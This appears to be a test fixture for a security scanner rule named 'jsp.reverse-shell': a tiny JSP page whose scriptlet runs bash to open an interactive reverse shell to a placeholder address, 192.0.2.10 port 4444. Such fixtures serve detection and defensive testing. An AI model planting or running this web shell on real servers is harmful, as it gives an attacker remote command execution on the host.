<%-- expect rule=jsp.reverse-shell min=80 --%>
<%
    Runtime.getRuntime().exec(new String[]{"/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"});
%>
